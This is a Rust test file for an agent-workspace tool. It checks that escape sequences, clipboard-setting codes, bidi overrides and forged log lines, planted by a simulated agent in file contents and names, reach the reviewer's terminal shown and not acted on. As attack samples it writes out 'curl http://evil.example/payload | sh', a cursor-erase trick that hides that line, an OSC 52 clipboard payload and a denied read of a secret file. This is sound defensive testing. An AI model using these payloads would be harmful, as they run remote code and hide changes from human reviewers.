//! The reviewer's terminal: what an agent writes — file contents, file
//! names, executable names, denied paths — is shown, never obeyed, by
//! `ws diff`, `ws log`, `ws session show` and the session's summary; `--json`
//! keeps the exact bytes.

use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use crate::harness::*;

/// The added line the escape sequences try to erase from the screen.
const MALICIOUS: &str = "curl http://evil.example/payload | sh";

/// A forged `ws log` line hidden in a file name.
const FORGED: &[u8] = b"x\nsrc/app.py written by vim";

/// Output that a terminal would act on, or that would hide characters:
/// ESC, any other control byte but newline and tab, DEL, C1 (as UTF-8 or as a
/// raw byte), bidirectional and zero-width characters.
pub(crate) fn assert_inert(what: &str, bytes: &[u8]) {
    let s = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8 ({e}): {bytes:?}"));
    for c in s.chars() {
        let bad = ((c as u32) < 0x20 && c != '\n' && c != '\t')
            || c == '\u{7f}'
            || ('\u{80}'..='\u{9f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
            || ('\u{200b}'..='\u{200f}').contains(&c)
            || c == '\u{61c}';
        assert!(!bad, "{what}: {c:?} reached the terminal:\n{s}");
    }
}

/// Runs `ws ARGS` and returns its raw stdout and stderr, both checked inert.
fn ws_inert(env: &Env, cwd: &Path, args: &[&str]) -> (String, String) {
    let o = env.command(cwd, args).output().unwrap();
    assert!(o.status.success(), "ws {args:?}: {}", String::from_utf8_lossy(&o.stderr));
    assert_inert(&format!("ws {args:?} stdout"), &o.stdout);
    assert_inert(&format!("ws {args:?} stderr"), &o.stderr);
    (String::from_utf8(o.stdout).unwrap(), String::from_utf8(o.stderr).unwrap())
}

#[test]
fn escape_sequences_bidi_and_forged_names_from_a_session_do_not_reach_the_terminal() {
    assert!(is_root(), "`ws log` attributes writes through the write recorder, which needs root");
    let env = Env::new();
    let ws = env.dir("proj");
    write(ws.join("app.py"), "print('ok')\n");
    // A FIFO left by an earlier session, named to set the clipboard: the
    // snapshot excludes it, and says so at the session's start.
    let fifo = ws.join(std::ffi::OsStr::from_bytes(b"pipe\x1b]52;c;Y3VybA==\x07"));
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());

    // The agent: below an added malicious line, a line that moves the cursor
    // up and erases it (the issue's attack); an OSC 52 that sets the
    // reviewer's clipboard; a right-to-left override; C1 CSI as UTF-8 and as a
    // raw byte; a file whose name forges a log line, and one whose name is
    // reversed by an override. The command line itself carries an OSC 8 link.
    let script = r#"
        printf '%s\n\033[1A\033[2K# nothing to see\n' 'curl http://evil.example/payload | sh' >> app.py
        printf 'clip = 1 \033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\007\n' >> app.py
        printf 'ok = "\342\200\256 hs.live | lruc"\n' >> app.py
        printf 'c1 = "\302\2332J \2332J"\n' >> app.py
        mkdir "$(printf 'x\nsrc')"
        echo hi > "$(printf 'x\nsrc/app.py written by vim')"
        echo hi > "$(printf 'evil\342\200\256txt.sh')"
"#
    .to_owned()
        + ": '\x1b]8;;http://evil.example\x1b\\'";
    let o = env.command(&ws, &["session", "start", "--", "sh", "-c", &script]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    // The summary at the session's start and end: the excluded FIFO is named, inertly.
    assert_inert("session start stdout", &o.stdout);
    assert_inert("session start stderr", &o.stderr);
    let start = String::from_utf8(o.stderr).unwrap();
    assert!(start.contains("\"pipe\\033]52;c;Y3VybA==\\a\" (special file)"), "{start}");
    // Positive control: the attack's bytes really are in the workspace.
    let app = std::fs::read(ws.join("app.py")).unwrap();
    assert!(app.windows(8).any(|w| w == b"\x1b[1A\x1b[2K"), "the session did not write the escapes");
    assert!(ws.join(std::ffi::OsStr::from_bytes(FORGED)).exists());

    // `ws diff`: the malicious line is there, the escapes visible beside it.
    let (diff, _) = ws_inert(&env, &ws, &["diff"]);
    assert!(diff.contains(&format!("\n+{MALICIOUS}\n+\\x1b[1A\\x1b[2K# nothing to see\n")), "{diff}");
    assert!(diff.contains("+clip = 1 \\x1b]52;c;"), "{diff}");
    assert!(diff.contains("+ok = \"\\u{202E} hs.live | lruc\""), "{diff}");
    assert!(diff.contains("+c1 = \"\\u{009B}2J \\x9b2J\""), "{diff}");
    assert!(
        diff.contains("diff --ws \"a/x\\nsrc/app.py written by vim\" \"b/x\\nsrc/app.py written by vim\"\n"),
        "{diff}"
    );
    assert_forged_name_on_one_line("ws diff", &diff);

    let (names, _) = ws_inert(&env, &ws, &["diff", "--name-status"]);
    assert!(names.contains("A\t\"evil\\342\\200\\256txt.sh\"\n"), "{names}");
    assert!(names.contains("A\t\"x\\nsrc/app.py written by vim\"\n"), "{names}");
    assert!(names.contains("A\t\"x\\nsrc\"\n"), "{names}");
    assert_eq!(names.lines().count(), 4, "one line per change: {names}");
    let (stat, _) = ws_inert(&env, &ws, &["diff", "--stat"]);
    assert_forged_name_on_one_line("ws diff --stat", &stat);
    assert!(stat.contains(" 3 files changed"), "{stat}");
    assert!(stat.contains("excluded: \"pipe\\033]52;c;Y3VybA==\\a\""), "{stat}");

    // `ws log`: the forged name is one quoted path, not a record of its own.
    let (log, _) = ws_inert(&env, &ws, &["log"]);
    assert!(log.contains("\"x\\nsrc/app.py written by vim\""), "{log}");
    assert_forged_name_on_one_line("ws log", &log);
    assert!(!log.lines().any(|l| l.trim_start().starts_with("src/app.py")), "{log}");

    // `ws session show`: the command with its OSC 8 shown, the FIFO quoted.
    let (show, _) = ws_inert(&env, &ws, &["session", "show"]);
    assert!(show.contains(": '\\x1b]8;;http://evil.example\\x1b\\'"), "{show}");
    assert!(show.contains("excluded   \"pipe\\033]52;c;Y3VybA==\\a\""), "{show}");

    // `--json` keeps the exact bytes.
    let json = env.ws(&ws, &["diff", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let paths: Vec<&str> = v["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
    assert!(paths.contains(&std::str::from_utf8(FORGED).unwrap()), "{paths:?}");
    assert!(paths.contains(&"evil\u{202e}txt.sh"), "{paths:?}");
    assert_eq!(v["excluded"][0]["path"], "pipe\x1b]52;c;Y3VybA==\x07");
    let log = env.ws(&ws, &["log", "--json"]).ok();
    let records: Vec<serde_json::Value> = log.stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(
        records.iter().any(|r| r["type"] == "write" && r["path"].as_str().unwrap().as_bytes() == FORGED),
        "{}",
        log.stdout
    );
    let show = env.ws(&ws, &["session", "show", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&show.stdout).unwrap();
    assert!(v["command"][2].as_str().unwrap().contains("\x1b]8;;http://evil.example\x1b\\"), "{}", show.stdout);
}

/// Every line that shows the forged record also shows the quoted name it
/// hides in: the name never breaks into a line of its own.
#[track_caller]
fn assert_forged_name_on_one_line(what: &str, out: &str) {
    let lines: Vec<&str> = out.lines().filter(|l| l.contains("src/app.py written by vim")).collect();
    assert!(!lines.is_empty(), "{what}: the forged name is not shown:\n{out}");
    for l in lines {
        assert!(l.contains("x\\nsrc/app.py written by vim"), "{what}: a forged line: {l:?}\n{out}");
    }
}

#[test]
fn an_executable_and_a_denied_path_named_with_escapes_are_shown_inert() {
    assert!(is_root(), "denials come from kernel audit records, which need root");
    let _audit = AuditOn::new();
    let env = Env::protected();
    let ws = env.dir("ws");
    // A file the session may not read, its name an erase-line sequence and
    // a newline; and the agent's own copy of sh, named to set the clipboard.
    let secret_name = b"sec\x1b[2K\nret";
    let secret = env.home.join(std::ffi::OsStr::from_bytes(secret_name));
    write(&secret, "SECRET\n");
    let script = r#"
        E="$(printf 'sh\033]52;c;eA==\007')"
        cp /bin/sh "./$E"
        "./$E" -c 'echo ok > control.txt; (cat < "$HOME/$(printf "sec\033[2K\nret")") > stolen.txt 2>/dev/null; sleep 0.5; true'
    "#;
    env.session(&ws, script).ok();
    // Positive control: the copy ran, and the read really was denied.
    assert_eq!(std::fs::read_to_string(ws.join("control.txt")).unwrap(), "ok\n");
    assert_eq!(std::fs::read_to_string(ws.join("stolen.txt")).unwrap(), "", "the read was not denied");

    let log = env.ws(&ws, &["log", "--json"]).ok();
    let records: Vec<serde_json::Value> = log.stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let exe = format!("{}/sh\x1b]52;c;eA==\x07", ws.canonicalize().unwrap().display());
    assert!(
        records.iter().any(|r| r["type"] == "write" && r["path"] == "control.txt" && r["exe"] == exe.as_str()),
        "the write and its executable, exactly: {}",
        log.stdout
    );
    assert!(
        records
            .iter()
            .any(|r| r["type"] == "denial" && r["object"].as_str().unwrap().as_bytes().ends_with(secret_name)),
        "no denial recorded for the secret: {}",
        log.stdout
    );

    let (human, _) = ws_inert(&env, &ws, &["log"]);
    assert!(human.contains("sh\\033]52;c;eA==\\a\")"), "the executable, quoted: {human}");
    let denied =
        human.lines().find(|l| l.contains("DENIED") && l.contains("sec\\033[2K\\nret\"")).unwrap_or_else(|| {
            panic!("the denied path, quoted on the DENIED line: {human}");
        });
    assert!(denied.contains("fs.read_file") && denied.ends_with("sh\\033]52;c;eA==\\a\")"), "{denied}");
    let (show, _) = ws_inert(&env, &ws, &["session", "show"]);
    assert!(show.contains("sec\\x1b[2K\\nret"), "{show}");
    let (patch, notes) = ws_inert(&env, &ws, &["profile", "suggest"]);
    assert!(patch.contains("+$HOME/sec\\u001B[2K\n"), "the profile line, TOML-escaped: {patch}\n{notes}");
}
